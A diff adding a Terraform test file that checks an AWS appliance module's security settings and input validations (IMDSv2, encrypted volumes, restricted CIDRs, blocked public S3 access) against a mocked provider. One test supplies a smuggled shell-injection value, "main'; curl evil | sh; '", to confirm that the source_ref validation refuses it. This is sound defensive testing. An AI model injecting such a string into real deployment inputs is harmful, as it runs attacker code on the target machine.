@@ -1,0 +1,304 @@
+# `terraform test` (run by tests/test_terraform.py): the module's variable
+# validations and the shape of what it creates, against a mocked AWS provider,
+# so no credentials or network are needed. The real apply runs against a moto
+# server in tests/test_terraform.py.
+
+mock_provider "aws" {
+  # The policies must at least be JSON objects for the provider's checks.
+  mock_data "aws_iam_policy_document" {
+    defaults = {
+      json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}"
+    }
+  }
+}
+
+variables {
+  allowed_cidrs = ["203.0.113.7/32"]
+  source_repo   = "https://git.example.com/dataperf-appliance.git"
+}
+
+run "defaults" {
+  command = apply
+
+  assert {
+    condition     = aws_instance.appliance.instance_type == "t3.medium"
+    error_message = "The default instance type is t3.medium."
+  }
+
+  assert {
+    condition     = aws_instance.appliance.metadata_options[0].http_tokens == "required"
+    error_message = "IMDSv2 must be required."
+  }
+
+  assert {
+    condition     = aws_instance.appliance.root_block_device[0].encrypted && aws_instance.appliance.root_block_device[0].volume_type == "gp3"
+    error_message = "The root volume must be encrypted gp3."
+  }
+
+  assert {
+    condition     = toset([for rule in aws_security_group.appliance.ingress : rule.from_port]) == toset([8080, 8501])
+    error_message = "Without key_name only 8080 and 8501 are open."
+  }
+
+  assert {
+    condition     = alltrue([for rule in aws_security_group.appliance.ingress : toset(rule.cidr_blocks) == toset(["203.0.113.7/32"]) && length(rule.ipv6_cidr_blocks) == 0])
+    error_message = "Ingress is from allowed_cidrs only."
+  }
+
+  assert {
+    condition     = !aws_s3_bucket.data.force_destroy
+    error_message = "force_destroy is off unless asked for."
+  }
+
+  assert {
+    condition     = aws_s3_bucket_versioning.data.versioning_configuration[0].status == "Enabled"
+    error_message = "Versioning must be on."
+  }
+
+  assert {
+    condition = alltrue([
+      aws_s3_bucket_public_access_block.data.block_public_acls,
+      aws_s3_bucket_public_access_block.data.block_public_policy,
+      aws_s3_bucket_public_access_block.data.ignore_public_acls,
+      aws_s3_bucket_public_access_block.data.restrict_public_buckets,
+    ])
+    error_message = "All public access must be blocked."
+  }
+
+  assert {
+    condition     = strcontains(aws_instance.appliance.user_data, "--env APPLIANCE_S3_BUCKET=\"$bucket\"") && strcontains(aws_instance.appliance.user_data, "bucket='${aws_s3_bucket.data.id}'")
+    error_message = "The user data runs the appliance with APPLIANCE_S3_BUCKET set to the bucket."
+  }
+
+  assert {
+    condition     = strcontains(aws_instance.appliance.user_data, "--restart unless-stopped")
+    error_message = "The appliance runs with a restart policy."
+  }
+
+  assert {
+    condition     = strcontains(aws_instance.appliance.user_data, "source_repo='https://git.example.com/dataperf-appliance.git'") && strcontains(aws_instance.appliance.user_data, "image=''")
+    error_message = "Without image, the user data builds from source_repo."
+  }
+
+  assert {
+    condition     = alltrue([for parameter in aws_ssm_parameter.password : parameter.type == "SecureString"])
+    error_message = "The passwords are SecureString parameters."
+  }
+
+  assert {
+    condition     = length(data.aws_iam_policy_document.appliance.statement[0].condition) == 1
+    error_message = "Listing the bucket is limited to the prefix."
+  }
+
+  assert {
+    condition     = data.aws_iam_policy_document.appliance.statement[1].resources == toset(["${aws_s3_bucket.data.arn}/dataperf-appliance/*"])
+    error_message = "Objects are read and written under the prefix only."
+  }
+
+  assert {
+    condition     = startswith(output.streamlit_url, "http://") && endswith(output.streamlit_url, ":8501") && endswith(output.airflow_url, ":8080")
+    error_message = "The URLs point at the instance's ports."
+  }
+
+  assert {
+    condition     = output.ssh_command == null
+    error_message = "No SSH command without key_name."
+  }
+}
+
+run "ssh_only_with_a_key" {
+  command = plan
+
+  variables {
+    key_name = "my-key"
+  }
+
+  assert {
+    condition     = toset([for rule in aws_security_group.appliance.ingress : rule.from_port]) == toset([22, 8080, 8501])
+    error_message = "With key_name, SSH (22) is open to allowed_cidrs too."
+  }
+}
+
+run "prebuilt_image" {
+  command = apply
+
+  variables {
+    source_repo = null
+    image       = "ghcr.io/example/dataperf-appliance:1.0"
+  }
+
+  assert {
+    condition     = strcontains(aws_instance.appliance.user_data, "image='ghcr.io/example/dataperf-appliance:1.0'") && strcontains(aws_instance.appliance.user_data, "source_repo=''")
+    error_message = "With image, the user data pulls it."
+  }
+}
+
+run "ipv6_and_whole_bucket" {
+  command = apply
+
+  variables {
+    allowed_cidrs = ["203.0.113.7/32", "2001:db8::/64"]
+    s3_prefix     = ""
+  }
+
+  assert {
+    condition     = alltrue([for rule in aws_security_group.appliance.ingress : toset(rule.cidr_blocks) == toset(["203.0.113.7/32"]) && toset(rule.ipv6_cidr_blocks) == toset(["2001:db8::/64"])])
+    error_message = "IPv6 blocks go to ipv6_cidr_blocks."
+  }
+
+  assert {
+    condition     = length(data.aws_iam_policy_document.appliance.statement[0].condition) == 0
+    error_message = "With an empty prefix the whole bucket is listed."
+  }
+}
+
+run "graviton_gets_arm64" {
+  command = plan
+
+  variables {
+    instance_type = "t4g.medium"
+  }
+
+  assert {
+    condition     = contains(data.aws_ami.al2023[0].filter[*].values, toset(["arm64"]))
+    error_message = "A Graviton type looks up an arm64 AMI."
+  }
+
+  assert {
+    condition     = aws_instance.appliance.credit_specification[0].cpu_credits == "unlimited"
+    error_message = "Burstable types get the cpu_credits setting."
+  }
+}
+
+run "given_ami_skips_the_lookup" {
+  command = plan
+
+  variables {
+    ami_id        = "ami-0123456789abcdef0"
+    instance_type = "m6i.large"
+  }
+
+  assert {
+    condition     = length(data.aws_ami.al2023) == 0 && aws_instance.appliance.ami == "ami-0123456789abcdef0"
+    error_message = "ami_id replaces the lookup."
+  }
+
+  assert {
+    condition     = length(aws_instance.appliance.credit_specification) == 0
+    error_message = "Non-burstable types get no credit specification."
+  }
+}
+
+run "public_cidr_refused" {
+  command = plan
+
+  variables {
+    allowed_cidrs = ["0.0.0.0/0"]
+  }
+
+  expect_failures = [var.allowed_cidrs]
+}
+
+run "public_ipv6_refused" {
+  command = plan
+
+  variables {
+    allowed_cidrs = ["203.0.113.7/32", "::/0"]
+  }
+
+  expect_failures = [var.allowed_cidrs]
+}
+
+run "public_cidr_allowed_when_asked" {
+  command = plan
+
+  variables {
+    allowed_cidrs = ["0.0.0.0/0"]
+    allow_public  = true
+  }
+
+  assert {
+    condition     = alltrue([for rule in aws_security_group.appliance.ingress : toset(rule.cidr_blocks) == toset(["0.0.0.0/0"])])
+    error_message = "allow_public lets 0.0.0.0/0 in."
+  }
+}
+
+run "no_cidrs_refused" {
+  command = plan
+
+  variables {
+    allowed_cidrs = []
+  }
+
+  expect_failures = [var.allowed_cidrs]
+}
+
+run "malformed_cidr_refused" {
+  command = plan
+
+  variables {
+    allowed_cidrs = ["203.0.113.7"]
+  }
+
+  expect_failures = [var.allowed_cidrs]
+}
+
+run "small_instance_refused" {
+  command = plan
+
+  variables {
+    instance_type = "t3.micro"
+  }
+
+  expect_failures = [var.instance_type]
+}
+
+run "unknown_instance_type_refused" {
+  command = plan
+
+  variables {
+    instance_type = "p5.48xlarge"
+  }
+
+  expect_failures = [var.instance_type]
+}
+
+run "neither_image_nor_source_refused" {
+  command = plan
+
+  variables {
+    source_repo = null
+  }
+
+  expect_failures = [var.image]
+}
+
+run "both_image_and_source_refused" {
+  command = plan
+
+  variables {
+    image = "ghcr.io/example/dataperf-appliance:1.0"
+  }
+
+  expect_failures = [var.image]
+}
+
+run "shell_metacharacters_refused" {
+  command = plan
+
+  variables {
+    source_ref = "main'; curl evil | sh; '"
+  }
+
+  expect_failures = [var.source_ref]
+}
+
+run "bad_prefix_refused" {
+  command = plan
+
+  variables {
+    s3_prefix = "/data"
+  }
+
+  expect_failures = [var.s3_prefix]
+}
